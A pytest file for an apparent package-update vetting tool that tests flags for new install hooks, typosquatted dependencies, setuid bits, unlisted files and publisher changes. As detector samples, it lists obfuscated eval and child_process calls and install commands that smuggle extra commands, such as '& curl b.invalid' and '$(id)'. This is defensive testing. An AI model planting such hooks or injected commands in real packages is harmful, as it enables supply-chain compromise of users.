"""What a version number promises, each with its near miss."""

import gzip
import json
import random
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from package_lab import npm, sdist, sides, tgz, wheel, zipped

from beartrap.model.finding import Severity
from beartrap.model.place import Place
from beartrap.vet import provenance
from beartrap.vet.analyser import FileSubject
from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.binary.signature import before_signing
from beartrap.vet.facts import Hook, PackageFacts
from beartrap.vet.kinds import Kind
from beartrap.vet.package.beside import Beside
from beartrap.vet.package.read import read_facts
from beartrap.vet.promise.housekeeping import only_keeps
from beartrap.vet.promise.listing import ListingAnalyser
from beartrap.vet.promise.registry import PAIRS
from beartrap.vet.promise.steps import Step, goes_back, step_of
from beartrap.vet.promise.wellknown import is_known, is_used, like_known
from beartrap.vet.side import TreeSide
from beartrap.vet.store import Store
from beartrap.vet.tree import unfold_tree

_EXAMPLE = Path(__file__).parents[2] / "examples" / "december-2020" / "update" / "old"


def step(old: Path, new: Path) -> dict[str, Behaviour]:
    before, after, _ = sides(old, new)
    return {one.id: one for analyser in PAIRS for one in analyser.look(before, after) if isinstance(one, Behaviour)}


@pytest.mark.parametrize(
    ("old", "new", "wanted"),
    [
        ("1.2.3", "1.2.4", Step.PATCH),
        ("1.2", "1.2.0.1", Step.PATCH),
        ("1.2.3", "1.3.0", Step.MINOR),
        ("1.9", "2.0", Step.MAJOR),
        ("1!1.0.0", "1!1.0.1", Step.PATCH),
        ("v1.0.0", "1.0.0", Step.PATCH),
        ("1.0", "1.0", Step.SAME),
        ("2024.1.1", "2024.1.2", Step.UNKNOWN),
        ("abc", "1.0", Step.UNKNOWN),
        (None, "1.0", Step.UNKNOWN),
    ],
)
def test_steps(old: str | None, new: str, wanted: Step) -> None:
    assert step_of(old, new) is wanted


def test_going_back() -> None:
    assert goes_back("1.10.0", "1.9.9")
    assert not goes_back("1.9.9", "1.10.0")
    assert not goes_back("x", "1")


def test_a_new_install_script_in_a_patch_release(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1", "go.js": "act()"})
    new = npm(tmp_path, "thing", "1.2.4", {"index.js": "1", "go.js": "act()"}, scripts={"postinstall": "node go.js"})
    hook = step(old, new)["promise.install-hook"]
    assert (hook.severity, hook.when, hook.place.path) == (Severity.HIGH, When.INSTALL, b"go.js")
    # near misses: it was there before; and a script that npm does not run at install time
    third = npm(tmp_path, "thing", "1.2.5", {"index.js": "1", "go.js": "3"}, scripts={"postinstall": "node go.js"})
    assert "promise.install-hook" not in step(new, third)
    tested = npm(tmp_path, "thing", "1.2.6", {"index.js": "1", "go.js": "act()"}, scripts={"test": "node go.js"})
    assert "promise.install-hook" not in step(old, tested)


def test_an_install_script_that_moved_is_no_new_one(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"get.js": "1"}, scripts={"postinstall": "node get.js --all"})
    moved = npm(tmp_path, "thing", "1.3.0", {"dist/get.js": "1"}, scripts={"postinstall": "node dist/get.js --all"})
    assert "promise.install-hook" not in step(old, moved)
    other = npm(tmp_path, "thing", "1.3.1", {"dist/put.js": "1"}, scripts={"postinstall": "node dist/put.js --all"})
    assert "promise.install-hook" in step(old, other)
    elsewhere = npm(tmp_path, "thing", "1.3.2", {"get.js": "1"}, scripts={"postinstall": "node ../up/get.js --all"})
    assert "promise.install-hook" in step(old, elsewhere)


def test_a_new_pth_file(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    new = wheel(tmp_path, "thing", "1.0.1", {"thing.py": "x", "thing.pth": "import thing"})
    assert step(old, new)["promise.install-hook"].when is When.START
    same = wheel(tmp_path, "thing", "1.0.2", {"thing.py": "x", "data/thing.pth.txt": "import thing"})
    assert "promise.install-hook" not in step(old, same)


def test_the_first_binary(tmp_path: Path) -> None:
    library = b"\x7fELF\x02\x01\x01" + random.Random(1).randbytes(400)
    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    new = wheel(tmp_path, "thing", "1.0.1", {"thing.py": "x", "thing.so": library})
    assert step(old, new)["promise.binary"].severity is Severity.HIGH
    third = wheel(tmp_path, "thing", "1.0.2", {"thing.py": "x", "thing.so": library + b"1"})
    assert "promise.binary" not in step(new, third)


def test_a_setuid_bit(tmp_path: Path) -> None:
    old = tgz(tmp_path / "a.tgz", {"usr/bin/x": "#!/bin/sh"}, modes={"usr/bin/x": 0o755})
    new = tgz(tmp_path / "b.tgz", {"usr/bin/x": "#!/bin/sh"}, modes={"usr/bin/x": 0o4755})
    assert step(old, new)["promise.permission"].severity is Severity.HIGH
    assert "promise.permission" not in step(
        old, tgz(tmp_path / "c.tgz", {"usr/bin/x": "#!/bin/sh "}, modes={"usr/bin/x": 0o755})
    )


@pytest.mark.parametrize(("path", "weight"), [("assets/a.tar", Severity.MEDIUM), ("test-fixtures/a.tar", Severity.LOW)])
def test_a_setuid_bit_in_an_archive_that_is_carried_along(tmp_path: Path, path: str, weight: Severity) -> None:
    inner = gzip.decompress(tgz(tmp_path / "x", {"tool": "#!/bin/sh"}, modes={"tool": 0o4755}).read_bytes())
    old = tgz(tmp_path / "a.tgz", {"a.go": "package a"})
    found = step(old, tgz(tmp_path / "b.tgz", {"a.go": "package a", path: inner}))
    assert found["promise.permission"].severity is weight


def test_a_new_host_in_a_patch_release(tmp_path: Path) -> None:
    old = sdist(tmp_path, "thing", "1.0.0", {"thing.py": "A = 'https://api.corp.example/v1'\n"})
    new = sdist(
        tmp_path, "thing", "1.0.1", {"thing.py": "A = 'https://api.corp.example/v2'\nB = 'https://drop.invalid/x'\n"}
    )
    assert step(old, new)["promise.endpoint"].place.row == 2
    comment = sdist(
        tmp_path, "thing", "1.0.2", {"thing.py": "A = 'https://api.corp.example/v2'\n# see https://docs.invalid/x\n"}
    )
    assert "promise.endpoint" not in step(old, comment)


def test_new_dependencies(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}, dependencies={"request": "^2", "lodash": "^4"})

    def told(version: str, **dependencies: str) -> Behaviour | None:
        held = {"request": "^2", "lodash": "^4", **dependencies}
        return step(old, npm(tmp_path, "thing", version, {"index.js": "1"}, dependencies=held)).get(
            "promise.dependency"
        )

    def weight(version: str, **dependencies: str) -> Severity | None:
        found = told(version, **dependencies)
        return found.severity if found is not None else None

    assert weight("1.2.4", flatmapping="^0.1") is Severity.HIGH  # nothing of the package asks for it
    assert weight("2.0.0", flatmapping="^0.1") is Severity.HIGH
    assert weight("1.2.5", rimraf="^5") is Severity.LOW  # everybody knows it
    assert weight("1.3.1", requset="^2") is Severity.HIGH  # near one that is there
    assert weight("1.3.3", expresss="^4") is Severity.HIGH  # near one that everybody knows
    assert weight("1.3.2", lodash="https://drop.invalid/x.tgz") is Severity.HIGH
    assert weight("1.3.4", lodash="owner/lodash#main") is Severity.HIGH
    assert weight("1.3.5", flatmapping="npm:rimraf@5") is Severity.LOW
    assert weight("1.3.6", flatmapping="npm:somebody@5") is Severity.HIGH
    assert weight("1.3.7", later="npm:request@^3") is Severity.LOW  # it was needed before, by its own name
    assert weight("1.3.8", later="npm:reqeust@^3") is Severity.HIGH
    assert told("1.2.5", lodash="^4.1") is None


@pytest.mark.parametrize(
    ("spec", "scripts", "wanted"),
    [
        ("file:parts/part.tgz", {"build": "tsc"}, Severity.LOW),
        ("file:./parts/part.tgz", {}, Severity.LOW),
        ("file:parts/part.tgz", {"postinstall": "node x.js"}, Severity.HIGH),
        ("file:parts/other.tgz", {}, Severity.HIGH),
        ("file:../parts/part.tgz", {}, Severity.HIGH),
    ],
)
def test_a_dependency_within_the_package(tmp_path: Path, spec: str, scripts: dict[str, str], wanted: Severity) -> None:
    inner = npm(tmp_path, "part", "0.0.0", {"index.js": "1"}, scripts=scripts).read_bytes()
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    held = {"part": spec}
    new = npm(tmp_path, "thing", "1.2.4", {"index.js": "1", "parts/part.tgz": inner}, dependencies=held)
    assert step(old, new)["promise.dependency"].severity is wanted


@pytest.mark.parametrize(
    ("name", "spec", "wanted"),
    [
        ("zoopack-android-arm64", "1.2.4", Severity.MEDIUM),
        ("zoopack-linux-x64-musl", "1.2.4", Severity.MEDIUM),
        ("zoopack-linux-x64-helper", "1.2.4", Severity.HIGH),  # ends in no platform
        ("zoopack-linux-x64-musl", "1.2.5", Severity.HIGH),  # another version than the row's
        ("zoopark-linux-x64-musl", "1.2.4", Severity.HIGH),
    ],
)
def test_one_more_platform_of_a_row(tmp_path: Path, name: str, spec: str, wanted: Severity) -> None:
    def version(number: str, **more: str) -> Path:
        row = {f"zoopack-{one}": number for one in ("linux-x64-gnu", "darwin-x64", "win32-x64-msvc")}
        return npm(tmp_path, "zoopack", number, {"index.js": "1"}, optionalDependencies={**row, **more})

    assert step(version("1.2.3"), version("1.2.4", **{name: spec}))["promise.dependency"].severity is wanted


@pytest.mark.parametrize(
    ("version", "code", "weight"),
    [
        ("1.2.4", "require('flatmapper-x')", Severity.HIGH),
        ("1.3.0", "require('flatmapper-x')", Severity.HIGH),
        ("1.3.1", "import x from 'flatmapper-x/lib'", Severity.HIGH),
        ("1.3.2", "require('flatmapper-y')", Severity.HIGH),
        ("2.0.0", "require('flatmapper-x')", Severity.HIGH),
    ],
)
def test_a_new_dependency_that_is_used(tmp_path: Path, version: str, code: str, weight: Severity) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    new = npm(tmp_path, "thing", version, {"index.js": code}, dependencies={"flatmapper-x": "^0.1"})
    assert step(old, new)["promise.dependency"].severity is weight


@pytest.mark.parametrize(
    ("peer", "told", "weight"),
    [
        ("flatmapper-x", {}, Severity.HIGH),
        ("flatmapper-x", {"flatmapper-x": {"optional": True}}, Severity.INFO),
        ("react", {}, Severity.LOW),
    ],
)
def test_a_new_peer_is_installed_unless_it_is_optional(tmp_path: Path, peer: str, told: dict, weight: Severity) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    new = npm(tmp_path, "thing", "1.3.0", {"index.js": "1"}, peerDependencies={peer: ">=1"}, peerDependenciesMeta=told)
    assert step(old, new)["promise.dependency"].severity is weight


def test_a_major_release_of_pypi_that_needs_what_nobody_knows_is_held_one_that_needs_what_many_use_is_not(tmp_path):
    old = wheel(tmp_path, "thing", "1.2.3", {"thing.py": "import os"})
    one = wheel(tmp_path, "thing", "2.0.0", {"thing.py": "import flatmapper_x"}, "Requires-Dist: flatmapper-x\n")
    other = wheel(tmp_path, "thing", "3.0.0", {"thing.py": "import requests"}, "Requires-Dist: requests\n")
    assert step(old, one)["promise.dependency"].severity is Severity.HIGH
    assert step(old, other)["promise.dependency"].severity is Severity.LOW


@pytest.mark.parametrize(("name", "weight"), [("shlex", Severity.MEDIUM), ("shlexx", Severity.HIGH)])
def test_nobody_may_take_the_name_of_a_module_of_the_standard_library(
    tmp_path: Path, name: str, weight: Severity
) -> None:
    old = wheel(tmp_path, "thing", "1.2.3", {"thing.py": "import os"})
    new = wheel(tmp_path, "thing", "1.3.0", {"thing.py": f"import {name}"}, f"Requires-Dist: {name}\n")
    assert step(old, new)["promise.dependency"].severity is weight


def test_what_promises_nothing_yet_needs_as_few_whom_nobody_knows(tmp_path: Path) -> None:
    needs = {"flatmapper-x": "^0.1"}
    code = {"index.js": "require('flatmapper-x')"}
    for before, after, weight in (("0.2.3", "0.3.0", Severity.HIGH), ("0.2.3", "0.2.4", Severity.HIGH)):
        (tmp_path / after).mkdir()
        old = npm(tmp_path / after, "thing", before, {"index.js": "1"})
        new = npm(tmp_path / after, "thing", after, code, dependencies=needs)
        assert step(old, new)["promise.dependency"].severity is weight


def test_a_new_dependency_that_setup_py_alone_names(tmp_path: Path) -> None:
    old = sdist(tmp_path, "thing", "1.1.0", {"setup.py": "from setuptools import setup\nsetup(name='thing')\n"})
    setup = "from setuptools import setup\nsetup(name='thing', install_requires=['flatmapper>=1'])\n"
    found = step(old, sdist(tmp_path, "thing", "1.1.1", {"setup.py": setup}))["promise.dependency"]
    assert found.severity is Severity.HIGH and found.place.row == 2


def test_a_dependency_from_an_address_is_seen_where_an_extra_needs_it_as_well(tmp_path: Path) -> None:
    extra = "Requires-Dist: part[all]; extra == 'all'\n"
    old = wheel(tmp_path, "thing", "1.2.3", {"thing.py": "import part"}, f"Requires-Dist: part\n{extra}")
    moved = f"Requires-Dist: part @ git+https://code.part.invalid/part.git\n{extra}"
    new = wheel(tmp_path, "thing", "1.3.0", {"thing.py": "import part"}, moved)
    assert step(old, new)["promise.dependency"].severity is Severity.HIGH


@pytest.mark.parametrize(
    ("link", "held"),
    [("http://files.part.invalid/part-9.9.tar.gz#egg=part-9.9", True), ("http://files.part.invalid/", False)],
)
def test_a_link_by_which_older_installers_find_a_dependency(tmp_path: Path, link: str, held: bool) -> None:
    setup = "from setuptools import setup\nsetup(name='thing', install_requires=['part'])\n"
    old = sdist(tmp_path, "thing", "1.1.0", {"setup.py": setup})
    linked = setup.replace("'part']", f"'part'], dependency_links=['{link}']")
    found = step(old, sdist(tmp_path, "thing", "1.1.1", {"setup.py": linked})).get("promise.dependency")
    assert (found is not None and found.severity is Severity.HIGH) == held


@pytest.mark.parametrize("host", ["registry.npm-cache.invalid", "registry.npmjs.org"])
def test_a_lock_of_the_first_form_that_comes_with_the_package(tmp_path: Path, host: str) -> None:
    lock = f'{{"lockfileVersion": 1, "dependencies": {{"resolve": {{"resolved": "https://{host}/r.tgz"}}}}}}'
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}, dependencies={"resolve": "^1"})
    new = npm(
        tmp_path, "thing", "1.2.4", {"index.js": "1", "npm-shrinkwrap.json": lock}, dependencies={"resolve": "^1"}
    )
    found = step(old, new).get("promise.dependency")
    assert (found is not None and found.severity is Severity.HIGH) == (host.endswith(".invalid"))


def test_a_package_that_is_another_or_older(tmp_path: Path) -> None:
    old = sdist(tmp_path, "thing", "1.1", {"thing.py": "x"})
    assert step(old, sdist(tmp_path, "other", "1.2", {"thing.py": "y"}))["promise.identity"]
    assert step(old, sdist(tmp_path, "thing", "1.0", {"thing.py": "y"}))["promise.identity"]
    (tmp_path / "again").mkdir()
    assert step(old, sdist(tmp_path / "again", "thing", "1.1", {"thing.py": "y"}))["promise.identity"]
    assert "promise.identity" not in step(old, sdist(tmp_path, "thing", "1.2", {"thing.py": "y"}))


def test_a_file_that_record_does_not_know(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    (tmp_path / "n").mkdir()
    honest = wheel(tmp_path / "n", "thing", "1.0.1", {"thing.py": "y = 1"})
    assert "promise.listing" not in step(old, honest)
    import zipfile

    with zipfile.ZipFile(honest, "a") as archive:
        archive.writestr("thing/extra.py", "import os")
    assert step(old, honest)["promise.listing"].severity is Severity.HIGH


@pytest.mark.parametrize(
    ("before", "after", "weight"),
    [
        ("thing/extra.py", "thing/more.py", Severity.MEDIUM),
        ("thing/extra.py", "other/more.py", Severity.HIGH),
        ("thing/extra.txt", "thing/more.py", Severity.HIGH),
        ("thing-1.0.0.dist-info/RECORD.jws", "thing/more.py", Severity.HIGH),
    ],
)
def test_what_the_list_left_out_each_time(tmp_path: Path, before: str, after: str, weight: Severity) -> None:
    import zipfile

    old = wheel(tmp_path, "thing", "1.0.0", {"thing/__init__.py": "x"})
    new = wheel(tmp_path, "thing", "1.0.1", {"thing/__init__.py": "x"})
    for path, name in ((old, before), (new, after)):
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(name, "words" if name.endswith(".txt") else "import os" if path is old else "import sys")
    assert step(old, new)["promise.listing"].severity is weight


@pytest.mark.parametrize(
    ("change", "there"), [(str.lower, False), (str.upper, False), (lambda digest: digest[::-1], True)]
)
def test_record_may_have_its_hashes_in_hexadecimal(tmp_path: Path, change: Callable[[str], str], there: bool) -> None:
    import base64
    import zipfile

    def in_hex(match: re.Match[bytes]) -> bytes:
        return b"sha256=" + change(base64.urlsafe_b64decode(match[1] + b"=").hex()).encode()

    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    (tmp_path / "n").mkdir()
    honest = wheel(tmp_path, "thing", "1.0.1", {"thing.py": "y = 1"})
    with zipfile.ZipFile(honest) as whole, zipfile.ZipFile(tmp_path / "n" / honest.name, "w") as archive:
        for name in whole.namelist():
            content = whole.read(name)
            other = re.sub(rb"sha256=([\w-]{43})", in_hex, content)
            archive.writestr(name, other if name.endswith("RECORD") else content)
    assert ("promise.listing" in step(old, tmp_path / "n" / honest.name)) == there


def _signed(plain: bytes) -> bytes:
    """Return a PE file with a table of certificates at its end, which is none, as signing leaves it."""
    made, table = bytearray(plain + b"\0" * (-len(plain) % 8)), b"\x10\0\0\0\0\x02\x02\0" + b"\x30" * 8
    header = int.from_bytes(made[0x3C:0x40], "little") + 24
    start = header + (112 if made[header : header + 2] == b"\x0b\x02" else 96) + 4 * 8
    made[start : start + 8] = len(made).to_bytes(4, "little") + len(table).to_bytes(4, "little")
    made[header + 64 : header + 68] = b"\x12\x34\0\0"
    return bytes(made) + table


@pytest.mark.parametrize(("change", "there"), [(lambda signed: signed, False), (lambda signed: signed.replace(b"This program", b"That program"), True), (lambda signed: signed + b"\0" * 8, True)], ids=["signed", "signed and changed", "more behind the signature"])  # fmt: skip
def test_what_was_only_signed_after_it_was_listed(
    tmp_path: Path, change: Callable[[bytes], bytes], there: bool
) -> None:
    import zipfile

    library = (_EXAMPLE / "Tideline.Core.BusinessLayer.dll").read_bytes()
    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    (tmp_path / "n").mkdir()
    listed = wheel(tmp_path, "thing", "1.0.1", {"thing.py": "x", "thing.dll": library})
    with zipfile.ZipFile(listed) as whole, zipfile.ZipFile(tmp_path / "n" / listed.name, "w") as archive:
        for name in whole.namelist():
            content = whole.read(name)
            archive.writestr(name, change(_signed(content)) if name == "thing.dll" else content)
    assert ("promise.listing" in step(old, tmp_path / "n" / listed.name)) == there


@pytest.mark.parametrize("magic", [0x10B, 0x20B], ids=["PE32", "PE32+"])
def test_a_table_of_certificates_that_lies_in_the_header_is_none(magic: int) -> None:
    header = 0x40 + 24
    directories = header + (112 if magic == 0x20B else 96)
    for start in range(directories - 8, directories + 80):
        made = bytearray(start + 8)
        if len(made) < directories + 40:
            made.extend(b"\0" * (directories + 40 - len(made)))
        made[0x3C:0x40] = (0x40).to_bytes(4, "little")
        made[header : header + 2] = magic.to_bytes(2, "little")
        made[directories + 32 : directories + 40] = start.to_bytes(4, "little") + (len(made) - start).to_bytes(
            4, "little"
        )
        plain = before_signing(bytes(made))
        assert plain is None or len(plain) == start


@pytest.mark.parametrize(("spelt", "there"), [("thing_one", False), ("Thing-One", False), ("thing", True)])
def test_record_may_spell_the_folder_of_metadata_otherwise(tmp_path: Path, spelt: str, there: bool) -> None:
    import zipfile

    old = wheel(tmp_path, "thing.one", "1.0.0", {"thing.py": "x"})
    (tmp_path / "n").mkdir()
    honest = wheel(tmp_path, "thing.one", "1.0.1", {"thing.py": "y = 1"})
    with zipfile.ZipFile(honest) as whole, zipfile.ZipFile(tmp_path / "n" / honest.name, "w") as archive:
        for name in whole.namelist():
            content = whole.read(name)
            other = content.replace(b"thing.one-1.0.1.dist-info", f"{spelt}-1.0.1.dist-info".encode())
            archive.writestr(name, other if name.endswith("RECORD") else content)
    assert ("promise.listing" in step(old, tmp_path / "n" / honest.name)) == there


@pytest.mark.parametrize(("whole", "hit"), [(True, True), (False, False)])
def test_the_hash_of_a_beginning_is_not_held_against_record(tmp_path: Path, whole: bool, hit: bool) -> None:
    """Of a file that is larger than what is read the beginning is kept: a program of 122 MB is no other one for that."""
    old = wheel(tmp_path, "thing", "1.0.0", {"thing.py": "x"})
    old_side, new_side, _ = sides(old, wheel(tmp_path, "thing", "1.0.1", {"thing.py": "y = 1", "more.py": "z = 2"}))
    files = new_side.tree.files
    files["thing.py"] = replace(files["thing.py"], sha256=files["more.py"].sha256, whole=whole)
    new_side.set_changed(files)
    assert bool(list(ListingAnalyser().look(old_side, new_side))) == hit


def test_code_of_a_size_that_nobody_reads(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.0.0", {"index.js": "1;"})
    new = npm(tmp_path, "thing", "1.0.1", {"index.js": "1;" * (7 << 20)})
    assert step(old, new)["promise.size"].severity is Severity.LOW
    data = npm(tmp_path, "thing", "1.0.2", {"index.js": "2;", "data.json": "1," * (7 << 20)})
    assert "promise.size" not in step(old, data)
    third = npm(tmp_path, "thing", "1.0.3", {"index.js": "1;" * (7 << 20) + "2;"})
    assert "promise.size" not in step(new, third)


def side_with(path: Path, store: Store, **beside: tuple[str, ...]) -> TreeSide:
    tree = unfold_tree(bytes(path), path.name, store)
    return TreeSide(tree, read_facts(tree, store, Beside(**beside)), store)


def test_who_publishes_and_who_vouches(tmp_path: Path) -> None:
    path, store = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}), Store()

    def told(**after: tuple[str, ...]) -> set[str]:
        before = side_with(path, store, publishers=("ann",), signers=("GitHub a/b",))
        new = side_with(path, store, **{"publishers": ("ann",), "signers": ("GitHub a/b",), **after})
        return {one.id for analyser in PAIRS for one in analyser.look(before, new) if one.id.startswith("publisher.")}

    assert told() == set()
    assert told(publishers=("mallory",)) == {"publisher.people"}
    assert told(publishers=("Ann <ann@corp.example>",)) == told(publishers=("Ann (https://corp.example)",)) == set()
    assert told(publishers=("The Ann Authors, Inc.",)) == told(publishers=("ann.com",)) == set()
    assert told(publishers=("ann.mallory.com",)) == told(publishers=("Inc.",)) == {"publisher.people"}
    assert told(signers=()) == {"publisher.signature-gone"}
    assert told(signers=("GitHub m/b",)) == {"publisher.signer-changed"}


@pytest.mark.parametrize(
    ("before", "after", "weight"),
    [
        ("Ann; ann@house.example", "Bob <bob@house.example>", Severity.LOW),
        ("Ann; ann@house.example", "Bob <bob@other.example>", Severity.MEDIUM),
        ("Ann; ann@gmail.com", "Bob <bob@gmail.com>", Severity.MEDIUM),
        ("Ann; 1+ann@users.noreply.github.com", "Bob <2+bob@users.noreply.github.com>", Severity.MEDIUM),
    ],
)
def test_somebody_else_of_the_same_house(tmp_path: Path, before: str, after: str, weight: Severity) -> None:
    path, store = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}), Store()
    old, new = (side_with(path, store, publishers=(one,)) for one in (before, after))
    (found,) = (one for analyser in PAIRS for one in analyser.look(old, new) if one.id == "publisher.people")
    assert isinstance(found, Behaviour)
    assert found.severity is weight


def test_the_artefact_against_its_source(tmp_path: Path) -> None:
    source = tgz(
        tmp_path / "source.tgz",
        {"src/thing/a.py": "x = 1\n", "src/thing/_version.py": "version = '0'\n", "src/thing/b.py": "y = 2\r\n"},
        "thing-main/",
    )

    def told(**changed: str) -> dict[str, tuple[str, Severity]]:
        files = {"thing/a.py": "x = 1\n", "thing/_version.py": "version = '1.0'\n", "thing/b.py": "y = 2\n"}
        files |= {f"thing/{name}.py": text for name, text in changed.items()}
        new, tree = side(wheel(tmp_path, "thing", "1.0", files)), side(source)
        return {one.place.path.decode(): (one.id, one.severity) for one in provenance.compare(new, tree)}

    from package_lab import side

    assert told() == {"thing/_version.py": ("provenance.differs", Severity.INFO)}
    assert told(a="x = 1\nimport socket\n")["thing/a.py"] == ("provenance.differs", Severity.HIGH)
    assert told(extra="import os\n")["thing/extra.py"] == ("provenance.not-in-source", Severity.HIGH)


def test_names_that_others_have(tmp_path: Path) -> None:
    old = wheel(tmp_path, "thing", "1.0.0", {"thing/__init__.py": "x = 1"})
    for at, (files, shadowed) in enumerate(
        (
            ({"json.py": "x = 1"}, True),
            ({"requests/__init__.py": ""}, True),
            ({"thing-1.0.1.data/scripts/pip": "#!python\n"}, True),
            ({"thing_core.py": "x = 1"}, False),
            ({"thing/json.py": "x = 1"}, False),
            ({"thing-1.0.1.data/scripts/thing": "#!python\n"}, False),
        )
    ):
        (tmp_path / str(at)).mkdir()
        new = wheel(tmp_path / str(at), "thing", "1.0.1", {"thing/__init__.py": "x = 1", **files})
        assert ("promise.shadow" in step(old, new)) is shadowed, files


ACTS = [
    "eval('1')", "eval`1`", "(0, eval)('1')", "const e = eval; e('1')", "new Function('1')()", "[].constructor.constructor('1')()", "require('child_process').execSync('id')",
    "const c = require; c('child_process')", "['child_process'].map(require)", "['u'].map(fetch)", "fetch = fetch; ['u'].map(fetch)", "process.binding('spawn_sync')",
    "const { binding } = process; binding('x')", "module.require('x')", "process.mainModule.require('x')", "import('./index.js')", "require('fs').writeFileSync('a', 'b')",
    "const { writeFileSync: w } = require('fs'); w('a', 'b')", "globalThis['ev' + 'al']('1')", "let show = () => 1; show = process.kill; show(1)", "setTimeout('1', 1)",
    "const f = (call) => call(); f(process.abort)", "`${eval('1')}`", "class A { static { eval('1') } }", "'a'.replace(/a/, eval)", "Math.max.call.call(eval, '1')", "require(process.env.X)",
]  # fmt: skip
BUILDS: list[tuple[str, dict[str, object], Severity]] = [
    ("node-gyp rebuild", {}, Severity.MEDIUM),
    ("node-gyp-build", {"dependencies": {"node-gyp-build": "^4"}}, Severity.MEDIUM),
    ("node-gyp-build", {}, Severity.HIGH),
    ("prebuild-install -r napi || node-gyp rebuild", {"dependencies": {"prebuild-install": "^7"}}, Severity.MEDIUM),
    ("prebuild-install", {"dependencies": {"prebuild-install": "^7"}, "binary": {"host": "https://b.invalid"}}, Severity.HIGH),
    ("prebuild-install --download https://b.invalid/x", {"dependencies": {"prebuild-install": "^7"}}, Severity.HIGH),
    ("node-gyp rebuild && node index.js --x", {}, Severity.HIGH),
    ("node-gyp rebuild & curl b.invalid", {}, Severity.HIGH),
    ("node-gyp rebuild --x=$(id)", {}, Severity.HIGH),
    ("opencollective-postinstall", {"dependencies": {"opencollective-postinstall": "^2"}}, Severity.LOW),
]  # fmt: skip


@pytest.mark.parametrize(("command", "manifest", "wanted"), BUILDS)
def test_a_new_hook_that_only_builds(
    tmp_path: Path, command: str, manifest: dict[str, object], wanted: Severity
) -> None:
    assert hook_of(tmp_path, {}, scripts={"install": command}, **manifest) is wanted


def test_a_dependency_that_the_manifest_maps_an_import_to_is_asked_for(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "require('#a')"})
    manifest = {"dependencies": {"unheard-of-thing": "1"}, "imports": {"#a": {"node": "unheard-of-thing"}}}
    new = npm(tmp_path, "thing", "2.0.0", {"index.js": "require('#a')"}, **manifest)
    assert "no file of the package" not in step(old, new)["promise.dependency"].quote


def test_a_new_dependency_of_a_family_that_was_needed_before(tmp_path: Path) -> None:
    needed = {"thing-part-one": "1", "thing-part-two": "1"}
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}, dependencies=needed)
    for name, weight in (("thing-part-three", Severity.MEDIUM), ("thing-other-three", Severity.HIGH)):
        new = npm(tmp_path, "thing", "1.2.4", {"index.js": f"require('{name}')"}, dependencies={**needed, name: "1"})
        assert step(old, new)["promise.dependency"].severity is weight


def test_a_new_dependency_that_takes_the_own_name(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "0.2.3", {"index.js": "1"}, dependencies={"other-part": "1"})
    for name, weight in (("thing-flatmap", Severity.HIGH), ("unheard-flatmap", Severity.HIGH)):
        needed = {"other-part": "1", name: "1"}
        new = npm(tmp_path, "thing", "0.3.0", {"index.js": f"require('{name}')"}, dependencies=needed)
        assert step(old, new)["promise.dependency"].severity is weight


def test_a_new_dependency_that_takes_the_own_name_as_others_did(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"}, dependencies={"thing-core": "1"})
    needed = {"thing-core": "1", "thing-flatmap": "1"}
    new = npm(tmp_path, "thing", "1.3.0", {"index.js": "require('thing-flatmap')"}, dependencies=needed)
    assert step(old, new)["promise.dependency"].severity is Severity.MEDIUM


def test_a_new_dependency_that_many_use(tmp_path: Path) -> None:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    new = npm(tmp_path, "thing", "1.2.4", {"index.js": "1"}, dependencies={"vue-component-type-helpers": "3"})
    assert step(old, new)["promise.dependency"].severity is Severity.LOW


def hook_of(tmp_path: Path, files: dict[str, str], **manifest: object) -> Severity:
    old = npm(tmp_path, "thing", "1.2.3", {"index.js": "1"})
    new = npm(tmp_path, "thing", "1.3.0", {"index.js": "1", **files}, **manifest)
    return step(old, new)["promise.install-hook"].severity


@pytest.mark.parametrize(
    ("command", "script", "wanted"),
    [
        ("echo Thank you for installing thing!", "", Severity.LOW),
        ("echo $(id)", "", Severity.HIGH),
        ("echo done; node go.js", "console.log('a')", Severity.LOW),
        ("echo done; node other.js", "console.log('a')", Severity.HIGH),
        ("node go.js", "'use strict';\n// thanks\nconsole.log('Thank you\\n', \"see the docs\");\n", Severity.LOW),
        ("node go.js", "console.log('Thank you');\nrequire('./index');\n", Severity.LOW),
        ("node go.js", "console.log('Thank you');\nrequire('./elsewhere');\n", Severity.HIGH),
        ("node go.js", "const { env } = process;\nif (!env.CI) console.log(`Thank you, ${env.USER}`);", Severity.LOW),
        (
            "node go.js",
            "try { require.resolve('@thing/' + process.arch); } catch (e) { console.warn(e.message); process.exit(1); }",
            Severity.LOW,
        ),
        ("node -e \"try{require('./go')}catch(e){}\"", "console.log('Thank you');", Severity.LOW),
        ("node -e \"require('child_process').exec('id')\"", "", Severity.HIGH),
        ("node -e \"console.log('\\u001b[35mThanks\\x1b[0m\\n')\"", "", Severity.LOW),
        ("node -e \"console['\\u0063onstructor']('id')\"", "", Severity.HIGH),
        ("node go.js", "console.log('a\\'+', evil(), '+'); //')", Severity.HIGH),
        *(("node go.js", script, Severity.HIGH) for script in ACTS),
    ],
)
